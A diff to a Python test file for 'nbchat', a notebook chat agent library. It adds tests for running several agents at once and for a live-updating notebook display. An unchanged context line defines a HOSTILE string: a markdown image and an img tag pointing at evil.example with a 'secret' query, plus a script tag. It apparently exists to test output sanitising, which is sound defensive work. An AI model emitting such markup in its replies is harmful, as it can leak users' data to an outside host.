@@ -2,6 +2,7 @@
 
 import subprocess
 import sys
+import threading
 
 import nbformat
 import pytest
@@ -9,11 +10,14 @@ from nbclient import NotebookClient
 from nbformat.v4 import new_code_cell, new_notebook
 
 from nbchat.agent.agent import Agent
+from nbchat.agent.live_output import LiveDisplay
+from nbchat.agent.map_agents import map_agents
 from nbchat.compaction.engine import CompactionEngine
 from nbchat.conversation.entries import Entry
 from nbchat.conversation.events import TextDelta
 from nbchat.errors import Overloaded, RequestRefused
-from nbchat.testing import Replay, ScriptedProvider, calls, fails, says
+from nbchat.providers.base import Request
+from nbchat.testing import Line, Replay, ScriptedProvider, calls, fails, says
 
 BEGIN = """
 from nbchat import Agent, CompactionEngine
@@ -42,6 +46,11 @@ agent_with(
     engine=CompactionEngine(policy="early"),
 ).chat("hi")
 """
+MANY = """
+from nbchat import map_agents
+run = map_agents(lambda: agent_with(says("Hello.", delay_seconds=0.2)), ["a", "b"])
+run
+"""
 HOSTILE = (
     "'![x](https://evil.example/?secret) <img src=//evil.example> <script>1</script>'"
 )
@@ -61,6 +70,7 @@ CELLS = {
     "shortened": SHORTENED,
     "failed": 'agent_with(fails(RateLimited("wait", retry_after=7200.0))).chat("hi")',
     "not run": 'agent.run("hi")',
+    "many": MANY,
 }
 
 
@@ -134,6 +144,13 @@ def test_an_output_that_is_shortened_does_not_replace_the_line_of_its_call(shown
 
 
 @pytest.mark.kernel
+def test_a_run_in_a_cell_that_is_not_watched_is_shown_once(shown):
+    (output,) = shown["many"]
+    assert output.output_type == "execute_result"
+    assert "of 2 rows" in output.data["text/html"]
+
+
+@pytest.mark.kernel
 def test_a_failed_turn_raises_the_real_error(shown):
     assert [each.ename for each in shown["failed"]] == ["RateLimited"]
 
@@ -199,6 +216,43 @@ def test_a_reply_without_deltas_is_shown_too(capsys):
     replay = Replay([Entry("user", "hi"), Entry("assistant", "Hello.")])
     assert Agent(replay).chat("hi") == "Hello."
     assert capsys.readouterr().out == "Hello.\n"
+
+
+class Publisher:
+    """Keeps what a cell shows, by the id of its display."""
+
+    def __init__(self) -> None:
+        self.shown: dict[str, list[str]] = {}
+
+    def publish(self, data: dict, *, transient: dict, update: bool) -> None:
+        seen = self.shown.setdefault(transient["display_id"], [])
+        assert update == bool(seen)
+        seen.append(data["text/html"])
+
+
+def test_a_display_follows_a_run_to_its_end_and_again_after_it_is_resumed():
+    goes_on = threading.Event()
+
+    def answer(_request: Request) -> Line:
+        goes_on.wait(10)
+        return says("Hello.")
+
+    publisher = Publisher()
+    display = LiveDisplay(publisher)
+    run = map_agents(lambda: Agent(ScriptedProvider(answer)), ["a", "b"], workers=1)
+    run._display = display  # as in a watched cell
+    display.follow(run)
+    (seen,) = publisher.shown.values()
+    assert "running" in seen[0]
+    run.stop()
+    goes_on.set()
+    run.wait()
+    display.wait()
+    assert "stopped" in seen[-1]
+    run.resume().wait()
+    display.wait()
+    assert ("finished" in seen[-1], "2 of 2 rows" in seen[-1]) == (True, True)
+    assert len(publisher.shown) == 1
 
 
 def test_chat_needs_no_ipython():
